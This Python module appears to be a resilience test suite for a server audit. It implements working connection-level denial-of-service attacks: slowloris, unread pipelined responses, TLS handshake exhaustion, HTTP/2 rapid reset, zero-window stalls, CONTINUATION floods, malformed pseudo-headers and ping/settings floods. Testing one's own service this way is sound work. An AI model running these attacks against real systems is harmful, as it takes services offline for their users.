"""Attacks on the level of the connection. None needs a token, but large answers are a tenant's.

Each takes an address and a number of seconds, and returns how many connections or streams it made.
All of them end their connections before they return, so what the server still has a moment later is
what it keeps. HTTP/2 is spoken without TLS; where the server refuses that, the attack ends with the
connection. Ordinary requests, as many as an attack makes, ask for the same where the attack is
about answers (`SAME_REQUEST`), have a connection each where it is about connections
(`OWN_CONNECTION`), and a few connections between them otherwise.
"""

from __future__ import annotations

import asyncio
import contextlib
import socket
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

Address = tuple[str, int]
Attack = Callable[[Address, float], Awaitable[int]]
CLIENT_HELLO = bytes.fromhex("16030100c8010000c40303") + bytes(197)
GET = b"GET /openapi.json HTTP/1.1\r\nHost: abuse\r\n\r\n"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
STREAMS = 100
"""That a connection of HTTP/2 may have."""
LARGEST_WINDOW = 2**31 - 1
SETTINGS, PING, HEADERS, CONTINUATION = 4, 6, 1, 9


def frame(kind: int, stream: int, payload: bytes = b"", flags: int = 0) -> bytes:
    """Return one frame of HTTP/2 (RFC 9113, 4.1)."""
    return (
        len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
    )


class Peer:
    """One socket, used byte by byte; the server's bytes are read only on request."""

    def __init__(self, taken: socket.socket) -> None:
        self.socket = taken
        self._loop = asyncio.get_running_loop()

    async def send(self, data: bytes, within_s: float = 5.0) -> bool:
        """Return whether the server took all of it."""
        try:
            async with asyncio.timeout(within_s):
                await self._loop.sock_sendall(self.socket, data)
        except (TimeoutError, OSError):
            return False
        return True

    async def read(self, within_s: float) -> bytes:
        """Return the next bytes; none if none came in time, or the connection has ended."""
        try:
            async with asyncio.timeout(within_s):
                return await self._loop.sock_recv(self.socket, 1 << 18)
        except (TimeoutError, OSError):
            return b""

    def reset(self) -> None:
        with contextlib.suppress(OSError):
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
        self.socket.close()


@asynccontextmanager
async def peers(address: Address, count: int, buffer_bytes: int = 0) -> AsyncIterator[list[Peer]]:
    """Yield `count` connections, or as many as the server accepts; close all at the end."""
    loop, made = asyncio.get_running_loop(), list[Peer]()
    try:
        for _ in range(count):
            one = socket.socket()
            one.setblocking(False)
            if buffer_bytes:
                one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer_bytes)
            made.append(Peer(one))
            try:
                async with asyncio.timeout(5.0):
                    await loop.sock_connect(one, address)
            except (TimeoutError, OSError):
                break
        yield made
    finally:
        for peer in made:
            peer.socket.close()


async def slow_heads(address: Address, seconds: float) -> int:
    """Send slow-loris heads that come a byte at a time and never end."""
    end_s = time.monotonic() + seconds
    async with peers(address, 300) as made:
        for peer in made:
            await peer.send(b"GET /healthz HTTP/1.1\r\nHost: abuse\r\nX: ")
        while time.monotonic() < end_s:
            for peer in made:
                await peer.send(b"a")
            await asyncio.sleep(0.2)
        return len(made)


async def slow_bodies(address: Address, seconds: float) -> int:
    """Announce bodies and send them a byte at a time."""
    head = b"POST /oauth/token HTTP/1.1\r\nHost: abuse\r\nContent-Length: 30000\r\n\r\n"
    end_s = time.monotonic() + seconds
    async with peers(address, 300) as made:
        for peer in made:
            await peer.send(head)
        while time.monotonic() < end_s:
            for peer in made:
                await peer.send(b"a")
            await asyncio.sleep(0.2)
        return len(made)


async def never_read(address: Address, seconds: float, request: bytes = GET) -> int:
    """Pipeline requests over HTTP/1.1 and read none of the answers."""
    async with peers(address, 60, buffer_bytes=4096) as made:
        for peer in made:
            await peer.send(request * 20, 0.5)
        await asyncio.sleep(seconds)
        return len(made) * 20


async def churn(address: Address, seconds: float) -> int:
    """Open connections and end them at once, in every way there is."""
    firsts = (
        b"",
        b"\x01",
        b"GET /healthz HTTP/1.1\r\nHost: abuse\r\n\r\n",
        b"GET /healthz HTTP/1.1\r\nHost: ab",
        b"POST /oauth/token HTTP/1.1\r\nHost: abuse\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        PREFACE,
        CLIENT_HELLO,
    )
    end_s, count = time.monotonic() + seconds, 0
    while time.monotonic() < end_s:
        async with peers(address, 35) as made:
            for number, peer in enumerate(made):
                await peer.send(firsts[number % len(firsts)])
            for number, peer in enumerate(made):
                if number % 2:
                    peer.reset()
            count += len(made)
    return count


async def handshakes(address: Address, seconds: float) -> int:
    """Begin TLS handshakes on a port that speaks no TLS, and never finish them."""
    end_s, count = time.monotonic() + seconds, 0
    while time.monotonic() < end_s:
        async with peers(address, 100) as made:
            for peer in made:
                await peer.send(CLIENT_HELLO)
            count += len(made)
            await asyncio.sleep(0.2)
    return count


async def window_0(address: Address, seconds: float) -> int:
    """HTTP/2 streams, as many as there may be, whose answers the client has no window for."""
    async with peers(address, 8) as made:
        clients = [_client() for _ in made]
        for peer, client in zip(made, clients, strict=True):
            client.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
            for number in range(STREAMS):
                _ask(client, b"/docs" if number % 2 else b"/openapi.json")
            await peer.send(client.data_to_send())
        await asyncio.gather(*(_stay(*each, seconds) for each in zip(made, clients, strict=True)))
        return len(made) * STREAMS


async def never_read_http2(address: Address, seconds: float) -> int:
    """HTTP/2 streams that have a window for all of their answers, on sockets that nobody reads."""
    async with peers(address, 20, buffer_bytes=4096) as made:
        for peer in made:
            client = _client()
            client.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: LARGEST_WINDOW})
            client.increment_flow_control_window(LARGEST_WINDOW - 65_535)
            for _ in range(STREAMS):
                _ask(client, b"/openapi.json")
            await peer.send(client.data_to_send())
        await asyncio.sleep(seconds)
        return len(made) * STREAMS


async def rapid_reset(address: Address, seconds: float) -> int:
    """HTTP/2 streams that are reset as soon as they are opened; the next connection follows when
    the server ends one."""
    end_s, count = time.monotonic() + seconds, 0
    while time.monotonic() < end_s:
        async with peers(address, 1) as (peer,):
            client, ended = _client(), False
            while not ended and time.monotonic() < end_s:
                for _ in range(STREAMS):
                    client.reset_stream(_ask(client, b"/healthz"), 8)
                count += STREAMS
                ended = not await peer.send(client.data_to_send())
                if data := await peer.read(0.001):
                    ended = ended or _is_end(client, data)
    return count


async def pseudo_headers(address: Address, seconds: float) -> int:
    """HTTP/2 requests whose pseudo-header fields are malformed."""
    ends = {b":scheme": b"http", b":authority": b"abuse"}
    bad = (
        {b":method": b"GET", b":path": b"/\xff", **ends},
        {b":method": b"G\xff", b":path": b"/", **ends},
        {b":method": b"GET", **ends},
        {b":method": b"GET", b":path": b"", **ends},
        {b":method": b"CONNECT", b":authority": b"abuse"},
        {b":method": b"GET", b":path": b"/", **ends, b"transfer-encoding": b"chunked"},
        {b":method": b"GET", b":path": b"/", **ends, b"content-length": b"5"},
    )
    end_s, count = time.monotonic() + seconds, 0
    while time.monotonic() < end_s:
        async with peers(address, len(bad)) as made:
            for peer, fields in zip(made, bad, strict=False):
                client = _client()
                client.send_headers(1, list(fields.items()), end_stream=True)
                await peer.send(client.data_to_send())
                await peer.read(0.02)
            count += len(made)
    return count


async def continuations(address: Address, seconds: float) -> int:
    """Send a head of HTTP/2 that continues in ever more frames."""
    end_s, count = time.monotonic() + seconds, 0
    while time.monotonic() < end_s:
        async with peers(address, 1) as (peer,):
            await peer.send(PREFACE + frame(SETTINGS, 0) + frame(HEADERS, 1, b"\x82"))
            field = b"\x00" + b"\x01a" + b"\x7f\x81\x7e" + b"b" * 16_256
            while time.monotonic() < end_s:
                if not await peer.send(frame(CONTINUATION, 1, field)):
                    break
                count += 1
    return count


async def unfinished_handshakes(address: Address, seconds: float) -> int:
    """Connections to a store node's port: by turns they say nothing, begin TLS, announce a frame
    that does not come, and send what is none."""
    firsts = (b"", CLIENT_HELLO, b"\x10\x00\x00\x00\x01", b"GET / HTTP/1.1\r\n\r\n", bytes(8192))
    end_s, count = time.monotonic() + seconds, 0
    while time.monotonic() < end_s:
        async with peers(address, 500) as made:
            for number, peer in enumerate(made):
                await peer.send(firsts[number % len(firsts)])
            count += len(made)
            await asyncio.sleep(0.2)
    return count


async def control_frames(address: Address, seconds: float) -> int:
    """Send pings and settings, and read none of the acknowledgements."""
    flood = (frame(PING, 0, bytes(8)) + frame(SETTINGS, 0)) * 500
    end_s, count = time.monotonic() + seconds, 0
    async with peers(address, 4, buffer_bytes=4096) as made:
        for peer in made:
            await peer.send(PREFACE + frame(SETTINGS, 0))
        while time.monotonic() < end_s:
            for peer in made:
                if await peer.send(flood, 0.1):
                    count += 1000
            await asyncio.sleep(0.01)
    return count


ATTACKS: dict[str, Attack] = {
    "slow heads": slow_heads,
    "slow bodies": slow_bodies,
    "answers never read": never_read,
    "connection churn": churn,
    "TLS handshakes": handshakes,
    "HTTP/2 window of 0": window_0,
    "HTTP/2 answers never read": never_read_http2,
    "HTTP/2 rapid reset": rapid_reset,
    "HTTP/2 pseudo-headers": pseudo_headers,
    "HTTP/2 continuations": continuations,
    "HTTP/2 control frames": control_frames,
}
PROOFS = {
    "HTTP/2 window of 0": 3,
    "HTTP/2 answers never read": 3,
    "HTTP/2 rapid reset": 3,
    "HTTP/2 pseudo-headers": 3,
    "answers never read": 6,
    "large answers never read": 6,
    "connection churn": 12,
}
"""The number of the audit's proof, for attacks that the audit made."""
ON_STORE_NODES: dict[str, Attack] = {"store port: handshakes": unfinished_handshakes}
"""Attacks on a port of a store node."""
OWN_CONNECTION = frozenset(
    ("slow heads", "slow bodies", "connection churn", "TLS handshakes", "HTTP/2 pseudo-headers")
)
"""Attacks whose ordinary requests have a connection each."""
SAME_REQUEST = frozenset(("answers never read", "HTTP/2 window of 0", "HTTP/2 answers never read"))
"""Attacks beside which the same page is requested and read."""


def _client() -> h2.connection.H2Connection:
    """Return a client whose first bytes are still to be sent; it also sends malformed frames."""
    client = h2.connection.H2Connection(
        h2.config.H2Configuration(
            client_side=True,
            header_encoding=None,
            validate_outbound_headers=False,
            normalize_outbound_headers=False,
        )
    )
    client.initiate_connection()
    return client


def _is_end(client: h2.connection.H2Connection, data: bytes) -> bool:
    """Return whether these bytes of the server end the connection."""
    try:
        events = client.receive_data(data)
    except h2.exceptions.ProtocolError:
        return True
    return any(isinstance(event, h2.events.ConnectionTerminated) for event in events)


def _ask(client: h2.connection.H2Connection, path: bytes) -> int:
    """Request a path; return the new stream."""
    stream: int = client.get_next_available_stream_id()
    fields = [(b":method", b"GET"), (b":path", path), (b":scheme", b"http"), (b":authority", b"a")]
    client.send_headers(stream, fields, end_stream=True)
    return stream


async def _stay(peer: Peer, client: h2.connection.H2Connection, seconds: float) -> None:
    """Send the answers that the protocol needs for `seconds`."""
    end_s = time.monotonic() + seconds
    while time.monotonic() < end_s:
        data = await peer.read(0.2)
        if data:
            with contextlib.suppress(h2.exceptions.ProtocolError):
                client.receive_data(data)
            await peer.send(client.data_to_send())
        else:
            await asyncio.sleep(0.05)
